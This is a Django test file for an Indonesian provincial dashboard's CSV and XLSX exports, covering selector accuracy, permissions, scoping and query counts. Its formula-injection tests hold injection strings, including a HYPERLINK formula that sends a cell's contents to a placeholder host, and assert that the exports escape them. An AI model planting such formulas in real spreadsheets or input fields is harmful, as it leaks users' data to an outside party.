@@ -1,0 +1,526 @@
+"""Exports under /unduh/: each equals its page's selector numbers, as CSV and XLSX, with a
+header block, real numeric cells, permissions and scope, formula injection neutralised,
+the performance workbook's year to date per measure, and fixed query counts."""
+
+import csv
+import io
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from programs.dashboards import selectors
+from programs.models import FundingSource, Indicator, Program, Realization
+from programs.progress import compute_progress
+from programs.spreadsheets import exports
+from regencies.models import Regency, UserScope
+from tests.factories import (
+    MonthlyReportFactory,
+    RealizationFactory,
+    UserFactory,
+    UserScopeFactory,
+)
+from tests.programs.dashboards import test_dashboards as dashboards
+
+# Fixtures and data shared with the dashboard tests: the exports must equal those pages.
+gbrss_data = dashboards.gbrss_data
+pimpinan = dashboards.pimpinan
+add_synthetic_regencies = dashboards.add_synthetic_regencies
+
+D = Decimal
+PERIOD = "?tahun=2024&bulan=12"
+
+
+# --- Helpers ----------------------------------------------------------------------------
+
+
+def body(response) -> bytes:
+    assert response.status_code == 200, response.status_code
+    return b"".join(response.streaming_content)
+
+
+def read_csv(response):
+    """(header block rows, table header, table rows) of a CSV export."""
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    data = body(response)
+    assert data.startswith("\ufeff".encode())  # BOM: Excel reads it as UTF-8
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    blank = rows.index([])
+    return rows[:blank], rows[blank + 1], rows[blank + 2 :]
+
+
+def read_xlsx(response):
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    return openpyxl.load_workbook(io.BytesIO(body(response)))
+
+
+def sheet_rows(sheet):
+    """{first or second cell: row of cells} for a data sheet (key: regency code/name)."""
+    rows = list(sheet.iter_rows(min_row=2))
+    return {(r[0].value or r[1].value): r for r in rows}
+
+
+def header(sheet) -> list[str]:
+    return [c.value for c in next(sheet.iter_rows(max_row=1))]
+
+
+def info(workbook) -> dict[str, str]:
+    return {r[0]: (r[1] if len(r) > 1 else None) for r in workbook["Keterangan"].values}
+
+
+def number(text: str) -> Decimal:
+    return D(text.replace(",", "."))
+
+
+def by_code(rows, column=0):
+    return {r[column]: r for r in rows}
+
+
+def login(client, role, **scope):
+    user = UserScopeFactory(role=role, **scope).user
+    client.force_login(user)
+    return user
+
+
+# --- Overview scorecard -----------------------------------------------------------------
+
+
+def test_scorecard_csv_equals_the_selector_with_header_block(client, gbrss_data, pimpinan):
+    block, head, rows = read_csv(client.get(f"/unduh/rapor.csv{PERIOD}&urutkan=gbrss"))
+    board = selectors.scorecard(year=2024, month=12, verified_only=False, sort="gbrss")
+    column = head.index("GBRSS: capaian (%)")
+    assert [r[1] for r in rows] == [r.regency.code for r in board.rows]  # the page's order
+    for row in board.rows:
+        cell = row.cells[[p.slug for p in board.programs].index("gbrss")]
+        line = by_code(rows, 1)[row.regency.code]
+        assert int(line[0]) == row.rank
+        if cell.progress.achievement is None:
+            assert line[column] == ""
+        else:
+            assert number(line[column]) == round(cell.progress.achievement, 2)
+    assert number(by_code(rows, 1)["16.01"][column]) == D("50.00")
+    assert by_code(rows, 1)["16.01"][column + 2] == "ya"  # OKU's February is provisional
+    flat = [";".join(r) for r in block]
+    assert flat[0] == "Dasbor Gerakan Serentak Sumsel"
+    assert "Tahun;2024" in flat and "Sampai bulan;Desember" in flat
+    assert any(line.startswith("Dibuat;") and "WIB" in line for line in flat)
+    assert any("Angka sementara (diajukan, belum diverifikasi)" in line for line in flat)
+    assert any(line.startswith("Halaman;http://testserver/?tahun=2024") for line in flat)
+
+
+def test_scorecard_xlsx_has_numeric_cells_and_a_keterangan_sheet(client, gbrss_data, pimpinan):
+    response = client.get(f"/unduh/rapor.xlsx{PERIOD}")
+    assert response["Content-Disposition"] == 'attachment; filename="rapor-2024-12.xlsx"'
+    workbook = read_xlsx(response)
+    assert workbook.sheetnames == ["Keterangan", "Rapor"]
+    sheet = workbook["Rapor"]
+    assert sheet.freeze_panes == "D2"
+    column = header(sheet).index("GBRSS: capaian (%)")
+    oku = {r[1].value: r for r in sheet.iter_rows(min_row=2)}
+    cell = oku["16.01"][column]
+    assert cell.data_type == "n" and cell.value == pytest.approx(0.5)
+    assert cell.number_format == "0.00%"
+    assert oku["16.01"][0].data_type == "n"  # rank
+    assert oku["16.07"][column].value == pytest.approx(0.25)
+    notes = info(workbook)
+    assert notes["Tahun"] == "2024" and notes["Sampai bulan"] == "Desember"
+    assert "Angka sementara" in notes["Catatan"]
+    assert "GBRSS" in notes  # each program's headline indicator is named
+
+
+# --- Program table ----------------------------------------------------------------------
+
+
+def test_program_export_equals_the_program_page(client, gbrss_data, pimpinan):
+    page = selectors.program_page(
+        program=selectors.program_with_indicators("gbrss"),
+        indicator_code=None,
+        year=2024,
+        month=12,
+        verified_only=False,
+    )
+    response = client.get(f"/unduh/program/gbrss.csv{PERIOD}")
+    assert response["Content-Disposition"] == 'attachment; filename="gbrss-2024-12.csv"'
+    block, head, rows = read_csv(response)
+    assert head[:6] == [
+        "Kode",
+        "Kabupaten/kota",
+        "Target (rumah)",
+        "Realisasi (rumah)",
+        "Sementara",
+        "Capaian (%)",
+    ]
+    assert [r[0] for r in rows[:-1]] == [r.regency.code for r in page.rows]
+    for item in page.rows:
+        line = by_code(rows)[item.regency.code]
+        p = item.progress
+        assert (number(line[2]) if line[2] else None) == p.target
+        assert (number(line[3]) if line[3] else None) == p.realization
+    oku = by_code(rows)["16.01"]
+    assert oku[2:6] == ["50", "25", "ya", "50,00"]
+    assert oku[8:] == ["Februari", "Diajukan", "tepat waktu"]
+    province = rows[-1]
+    assert province[1] == "Provinsi Sumatera Selatan"
+    assert province[2:5] == ["8391", "50", "ya"]  # no thousands separator in CSV
+    assert ["Target belum dialokasikan", "8.241"] in block
+
+    workbook = read_xlsx(client.get(f"/unduh/program/gbrss.xlsx{PERIOD}"))
+    sheet = workbook["rumah-dibedah"]
+    rows = sheet_rows(sheet)
+    banyuasin = rows["16.07"]
+    assert [c.value for c in banyuasin[2:4]] == [100, 25]
+    assert all(c.data_type == "n" for c in banyuasin[2:4])
+    assert banyuasin[2].number_format == "#,##0"
+    assert banyuasin[5].value == pytest.approx(0.25)
+    assert rows["Provinsi Sumatera Selatan"][3].value == 50
+
+
+def test_program_export_follows_the_indicator_tab_and_verified_switch(client, gbrss_data, pimpinan):
+    response = client.get(f"/unduh/program/gbrss.csv{PERIOD}&terverifikasi=1")
+    assert "gbrss-2024-12-terverifikasi.csv" in response["Content-Disposition"]
+    block, _head, rows = read_csv(response)
+    assert by_code(rows)["16.01"][3:5] == ["5", ""]
+    assert rows[-1][3] == "30"
+    assert ["Data", "Terverifikasi saja"] in block
+    assert not any("Angka sementara" in ";".join(r) for r in block)
+
+    response = client.get(f"/unduh/program/gpstss.xlsx{PERIOD}&indikator=balita-didampingi")
+    assert "gpstss-balita-didampingi-2024-12.xlsx" in response["Content-Disposition"]
+    assert read_xlsx(response).sheetnames == ["Keterangan", "balita-didampingi"]
+
+
+def test_ratio_realization_is_a_number_with_the_indicator_decimals(client, reference_data):
+    program = Program.objects.get(slug="gpstss")
+    stunting = Indicator.objects.get(code="prevalensi-stunting")
+    source = FundingSource.objects.get(code="tidak-dirinci")
+    for code, num, den in [("16.07", 30, 200), ("16.01", 1, 10)]:
+        rep = MonthlyReportFactory(
+            program=program, regency=Regency.objects.get(code=code), year=2024, month=3
+        )
+        RealizationFactory(
+            report=rep,
+            indicator=stunting,
+            funding_source=source,
+            value=None,
+            numerator=D(num),
+            denominator=D(den),
+        )
+    url = f"/unduh/program/gpstss.csv{PERIOD}&indikator=prevalensi-stunting"
+    _block, head, rows = read_csv(client.get(url))
+    assert head[3] == "Realisasi (%)"
+    assert rows[-1][3] == "14,76"  # 31 / 210, not an average of percentages
+    sheet = read_xlsx(client.get(url.replace(".csv", ".xlsx")))["prevalensi-stunting"]
+    province = sheet_rows(sheet)["Provinsi Sumatera Selatan"][3]
+    assert province.value == pytest.approx(31 / 210 * 100)
+    assert province.number_format == "#,##0.00"
+
+
+# --- Regency table ----------------------------------------------------------------------
+
+
+def test_regency_export_compares_with_the_province(client, gbrss_data, pimpinan):
+    regency = Regency.objects.get(code="16.07")
+    page = selectors.regency_page(regency=regency, year=2024, month=12, verified_only=False)
+    response = client.get(f"/unduh/wilayah/16.07.csv{PERIOD}")
+    assert "wilayah-1607-2024-12.csv" in response["Content-Disposition"]
+    block, head, rows = read_csv(response)
+    assert len(rows) == sum(len(b.indicators) for b in page.blocks)
+    houses = by_code(rows, 1)["rumah-dibedah"]
+    assert houses[4:10] == ["100", "25", "", "25,00", "100,00", "Tertinggal"]
+    assert houses[10:13] == ["8391", "50", "ya"]
+    assert ["Kabupaten/kota", "Kab. Banyuasin (16.07)"] in block
+
+    sheet = read_xlsx(client.get(f"/unduh/wilayah/16.07.xlsx{PERIOD}"))["Banyuasin"]
+    houses = {r[1].value: r for r in sheet.iter_rows(min_row=2)}["rumah-dibedah"]
+    assert [c.value for c in houses[4:6]] == [100, 25]
+    assert houses[7].value == pytest.approx(0.25) and houses[7].data_type == "n"
+    assert houses[11].value == 50
+    assert client.get("/unduh/wilayah/99.99.csv").status_code == 404
+
+
+# --- Completeness -----------------------------------------------------------------------
+
+
+def test_completeness_export_states_counts_and_rates(client, gbrss_data):
+    response = client.get("/unduh/kelengkapan.csv?tahun=2024&program=gbrss")
+    assert "kelengkapan-gbrss-2024.csv" in response["Content-Disposition"]
+    block, head, rows = read_csv(response)
+    assert head[2:5] == ["Januari", "Februari", "Maret"]
+    banyuasin = by_code(rows)["16.07"]
+    assert banyuasin[2:5] == ["Terverifikasi", "Terverifikasi", "Belum masuk"]
+    assert banyuasin[14:] == ["12", "2", "1", "16,67", "8,33"]
+    assert rows[-1][1] == "Semua kabupaten/kota" and rows[-1][14] == "204"
+    assert not any("Angka sementara" in ";".join(r) for r in block)
+
+    sheet = read_xlsx(client.get("/unduh/kelengkapan.xlsx?tahun=2024&program=gbrss"))["GBRSS"]
+    oku = sheet_rows(sheet)["16.01"]
+    assert [c.value for c in oku[2:4]] == ["Terverifikasi", "Diajukan tepat waktu"]
+    assert oku[14].value == 12 and oku[14].data_type == "n"
+    assert oku[17].value == pytest.approx(2 / 12)
+
+
+# --- Who may export what ----------------------------------------------------------------
+
+
+def test_anonymous_exports_verified_numbers_only(client, gbrss_data):
+    block, _head, rows = read_csv(client.get(f"/unduh/program/gbrss.csv{PERIOD}&terverifikasi=0"))
+    assert by_code(rows)["16.01"][3] == "5"  # OKU's submitted 20 is not public
+    assert rows[-1][3] == "30"
+    assert ["Data", "Terverifikasi saja (akses publik)"] in block
+    assert not any("Angka sementara" in ";".join(r) for r in block)
+    workbook = read_xlsx(client.get(f"/unduh/rapor.xlsx{PERIOD}"))
+    assert "Angka sementara" not in str(info(workbook).get("Catatan"))
+
+
+def test_anonymous_and_roleless_users_cannot_export_raw_realizations(client, gbrss_data):
+    response = client.get(f"/unduh/realisasi.csv{PERIOD}")
+    assert response.status_code == 302
+    assert response["Location"].startswith("/akun/masuk/")
+    client.force_login(UserFactory())
+    assert client.get(f"/unduh/realisasi.xlsx{PERIOD}").status_code == 403
+    # a user without a role reads the public dashboards, and exports them verified only
+    _block, _head, rows = read_csv(client.get(f"/unduh/program/gbrss.csv{PERIOD}"))
+    assert rows[-1][3] == "30"
+
+
+def test_private_dashboard_exports_need_a_login(client, gbrss_data, settings):
+    settings.PUBLIC_DASHBOARD = False
+    response = client.get(f"/unduh/rapor.csv{PERIOD}")
+    assert response.status_code == 302 and response["Location"].startswith("/akun/masuk/")
+    client.force_login(UserFactory())
+    assert client.get(f"/unduh/rapor.csv{PERIOD}").status_code == 403
+
+
+def test_raw_realizations_of_counted_reports_for_pimpinan(client, gbrss_data, pimpinan):
+    response = client.get(f"/unduh/realisasi.csv{PERIOD}")
+    assert "realisasi-2024-12.csv" in response["Content-Disposition"]
+    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
+    block, head, rows = read_csv(response)
+    assert head[:4] == ["Tahun", "Bulan", "Kode wilayah", "Kabupaten/kota"]
+    # Banyuasin Jan + Feb, OKU Jan + Feb (submitted); Banyuasin's March draft is not counted
+    assert sorted((r[2], r[1], r[11], r[14]) for r in rows) == [
+        ("16.01", "1", "5", "Terverifikasi"),
+        ("16.01", "2", "20", "Diajukan"),
+        ("16.07", "1", "10", "Terverifikasi"),
+        ("16.07", "2", "15", "Terverifikasi"),
+    ]
+    oku_feb = next(r for r in rows if r[2] == "16.01" and r[1] == "2")
+    assert oku_feb[8:11] == ["apbn", "APBN", "APBN"] and oku_feb[15] == "ya"
+    assert ["Lingkup", "Semua kabupaten/kota dan program"] in block
+
+    verified = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}&terverifikasi=1"))[2]
+    assert len(verified) == 3
+    january = read_csv(client.get("/unduh/realisasi.csv?tahun=2024&bulan=1"))[2]
+    assert {r[1] for r in january} == {"1"}
+    other = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}&program=gpstss"))[2]
+    assert other == []
+
+    sheet = read_xlsx(client.get(f"/unduh/realisasi.xlsx{PERIOD}"))["Realisasi"]
+    values = [r for r in sheet.iter_rows(min_row=2)]
+    assert len(values) == 4
+    assert all(r[11].data_type == "n" and r[0].data_type == "n" for r in values)
+
+
+def test_raw_realizations_are_scoped_to_the_operator_and_verifier(client, gbrss_data):
+    login(client, UserScope.Role.OPERATOR, regency=Regency.objects.get(code="16.07"))
+    block, _head, rows = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}"))
+    assert {r[2] for r in rows} == {"16.07"} and len(rows) == 2
+    assert any(r[0] == "Lingkup" and "Kab. Banyuasin" in r[1] for r in block)
+    sheet = read_xlsx(client.get(f"/unduh/realisasi.xlsx{PERIOD}"))["Realisasi"]
+    assert {r[2].value for r in sheet.iter_rows(min_row=2)} == {"16.07"}
+
+    scope = UserScopeFactory(role=UserScope.Role.VERIFIKATOR)
+    scope.programs.set(Program.objects.filter(slug="gpstss"))
+    client.force_login(scope.user)
+    assert read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}"))[2] == []
+
+
+# --- Formula injection ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
+def test_text_cells_that_start_a_formula_are_neutralised(text):
+    column = exports.Column("Catatan")
+    assert exports.csv_cell(column, text) == "'" + text
+    assert exports.csv_cell(column, "Rumah " + text) == "Rumah " + text  # only the start
+
+
+def test_numbers_are_never_neutralised():
+    number = exports.Column("Nilai", exports.NUMBER)
+    assert exports.csv_cell(number, D("-5")) == "-5"
+    assert exports.csv_cell(number, D("1250.5000")) == "1250,5"
+    assert exports.csv_cell(exports.Column("x", exports.PERCENT, 2), D("14.7619")) == "14,76"
+
+
+def test_formula_in_a_regency_note_is_neutralised_in_csv_and_xlsx(client, gbrss_data, pimpinan):
+    formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+    Realization.objects.filter(report__regency_id="16.07", report__month=1).update(note=formula)
+    _block, head, rows = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}"))
+    note = head.index("Catatan")
+    assert [r[note] for r in rows if r[2] == "16.07" and r[1] == "1"] == ["'" + formula]
+
+    sheet = read_xlsx(client.get(f"/unduh/realisasi.xlsx{PERIOD}"))["Realisasi"]
+    cell = next(
+        r[16] for r in sheet.iter_rows(min_row=2) if r[2].value == "16.07" and r[1].value == 1
+    )
+    assert cell.data_type == "s" and cell.value == "'" + formula
+
+
+# --- Indicator performance workbook -----------------------------------------------------
+
+
+def running_total_data():
+    """Toddlers accompanied (a running total): Banyuasin reports 100 in January and 150
+    in March (not February), OKU 40 in February."""
+    indicator = Indicator.objects.get(code="balita-didampingi")
+    source = FundingSource.objects.get(code="tidak-dirinci")
+    for code, month, value in [("16.07", 1, 100), ("16.07", 3, 150), ("16.01", 2, 40)]:
+        rep = MonthlyReportFactory(
+            program=indicator.program,
+            regency=Regency.objects.get(code=code),
+            year=2024,
+            month=month,
+        )
+        RealizationFactory(report=rep, indicator=indicator, funding_source=source, value=D(value))
+    return indicator
+
+
+def monthly(row, months):
+    """[(month value, year to date), ...] from a performance sheet row."""
+    return [(row[3 + 2 * i].value, row[4 + 2 * i].value) for i in range(months)]
+
+
+def test_performance_workbook_has_a_sheet_per_indicator_with_running_total_ytd(
+    client, gbrss_data, pimpinan
+):
+    indicator = running_total_data()
+    response = client.get("/unduh/program/gpstss/kinerja.xlsx?tahun=2024&bulan=3")
+    assert "kinerja-gpstss-2024-03.xlsx" in response["Content-Disposition"]
+    workbook = read_xlsx(response)
+    assert workbook.sheetnames == ["Keterangan", "prevalensi-stunting", "balita-didampingi"]
+    sheet = workbook["balita-didampingi"]
+    head = header(sheet)
+    assert head[:5] == [
+        "Kode",
+        "Kabupaten/kota",
+        "Target (balita)",
+        "Januari: bulan ini",
+        "Januari: s.d. bulan ini",
+    ]
+    assert head[-3:] == ["Capaian s.d. Maret (%)", "Status", "Sementara"]
+    rows = sheet_rows(sheet)
+    assert len(rows) == 18  # 17 regencies and the province
+    # a running total's year to date is its latest report, never a sum of months
+    assert monthly(rows["16.07"], 3) == [(100, 100), (None, 100), (150, 150)]
+    assert monthly(rows["16.01"], 3) == [(None, None), (40, 40), (None, 40)]
+    province = rows["Provinsi Sumatera Selatan"]
+    assert monthly(province, 3) == [(100, 100), (40, 140), (150, 190)]
+    table = compute_progress(indicators=[indicator], year=2024, month=3)
+    assert table.province(indicator.pk).realization == 190
+    assert province[2].value == 8377  # the sourced province target
+    assert province[9].value == pytest.approx(float(table.province(indicator.pk).achievement) / 100)
+    assert province[3].data_type == "n" and province[9].number_format == "0.00%"
+    assert indicator.name in info(workbook)["Lembar balita-didampingi"]
+
+
+def test_performance_workbook_increment_ytd_is_the_cumulative_sum(client, gbrss_data, pimpinan):
+    workbook = read_xlsx(client.get("/unduh/program/gbrss/kinerja.xlsx?tahun=2024&bulan=3"))
+    assert workbook.sheetnames == ["Keterangan", "rumah-dibedah"]
+    rows = sheet_rows(workbook["rumah-dibedah"])
+    # Banyuasin: 10 in January, 15 in February; its March draft is not counted
+    assert monthly(rows["16.07"], 3) == [(10, 10), (15, 25), (None, 25)]
+    assert monthly(rows["16.01"], 3) == [(5, 5), (20, 25), (None, 25)]
+    assert monthly(rows["Provinsi Sumatera Selatan"], 3) == [(15, 15), (35, 50), (None, 50)]
+    assert rows["16.07"][2].value == 100 and rows["16.07"][9].value == pytest.approx(0.25)
+    assert rows["16.01"][-1].value == "ya"
+    verified = read_xlsx(
+        client.get("/unduh/program/gbrss/kinerja.xlsx?tahun=2024&bulan=3&terverifikasi=1")
+    )
+    rows = sheet_rows(verified["rumah-dibedah"])
+    assert monthly(rows["Provinsi Sumatera Selatan"], 3) == [(15, 15), (15, 30), (None, 30)]
+    assert client.get("/unduh/program/mandiri-energi/kinerja.xlsx").status_code == 404
+    assert client.get("/unduh/program/gbrss/kinerja.csv").status_code == 404
+
+
+# --- Responses and links ----------------------------------------------------------------
+
+
+def test_unknown_format_or_program_is_not_found(client, gbrss_data):
+    assert client.get("/unduh/rapor.pdf").status_code == 404
+    assert client.get("/unduh/program/tidak-ada.csv").status_code == 404
+    assert client.post(f"/unduh/rapor.csv{PERIOD}").status_code == 405
+
+
+def test_exports_are_private_attachments_that_vary_on_the_login(client, gbrss_data):
+    response = client.get(f"/unduh/rapor.csv{PERIOD}")
+    assert response["Content-Disposition"].startswith("attachment;")
+    assert "private" in response["Cache-Control"]
+    assert "Cookie" in response["Vary"]
+    body(response)
+
+
+@pytest.mark.parametrize(
+    ("page", "links"),
+    [
+        ("/", ["/unduh/rapor.csv?tahun=2024&amp;bulan=12", "/unduh/rapor.xlsx?tahun=2024"]),
+        (
+            "/program/gbrss/",
+            [
+                "/unduh/program/gbrss.csv?tahun=2024&amp;bulan=12",
+                "/unduh/program/gbrss.xlsx?tahun=2024&amp;bulan=12",
+                "/unduh/program/gbrss/kinerja.xlsx?tahun=2024&amp;bulan=12",
+            ],
+        ),
+        ("/wilayah/16.07/", ["/unduh/wilayah/16.07.csv?tahun=2024", "/unduh/wilayah/16.07.xlsx"]),
+        (
+            "/kelengkapan/",
+            [
+                "/unduh/kelengkapan.csv?tahun=2024&amp;bulan=12&amp;program=gbrss",
+                "/unduh/kelengkapan.xlsx?tahun=2024",
+            ],
+        ),
+    ],
+)
+def test_dashboard_tables_link_their_exports_with_the_filters(client, gbrss_data, page, links):
+    query = "?tahun=2024&bulan=12" + ("&program=gbrss" if page == "/kelengkapan/" else "")
+    html = client.get(page + query).content.decode()
+    for link in links:
+        assert link in html, link
+
+
+def test_raw_realizations_link_only_for_officials(client, gbrss_data):
+    assert "/unduh/realisasi." not in client.get(f"/program/gbrss/{PERIOD}").content.decode()
+    login(client, UserScope.Role.PIMPINAN)
+    html = client.get(f"/program/gbrss/{PERIOD}").content.decode()
+    assert "/unduh/realisasi.csv?tahun=2024&amp;bulan=12&amp;program=gbrss" in html
+
+
+# --- Query counts -----------------------------------------------------------------------
+
+EXPORTS = [
+    f"/unduh/rapor.{{fmt}}{PERIOD}",
+    f"/unduh/rapor.{{fmt}}{PERIOD}&urutkan=gbrss",
+    f"/unduh/program/gbrss.{{fmt}}{PERIOD}",
+    f"/unduh/program/gpstss.{{fmt}}{PERIOD}&indikator=prevalensi-stunting",
+    f"/unduh/wilayah/16.07.{{fmt}}{PERIOD}",
+    "/unduh/kelengkapan.{fmt}?tahun=2024&program=gbrss",
+    f"/unduh/realisasi.{{fmt}}{PERIOD}",
+]
+URLS = [url.format(fmt=fmt) for url in EXPORTS for fmt in ("csv", "xlsx")] + [
+    f"/unduh/program/gbrss/kinerja.xlsx{PERIOD}",
+    f"/unduh/program/gpstss/kinerja.xlsx{PERIOD}",
+]
+
+
+@pytest.mark.parametrize("url", URLS)
+def test_query_count_does_not_grow_with_regencies_or_rows(client, gbrss_data, pimpinan, url):
+    def count():
+        with CaptureQueriesContext(connection) as ctx:
+            body(client.get(url))  # a streamed body runs its queries while it is read
+        return len(ctx.captured_queries)
+
+    at_sumsel_scale = count()
+    add_synthetic_regencies(50)  # 50 more regencies, 200 more reports and realizations
+    assert count() == at_sumsel_scale
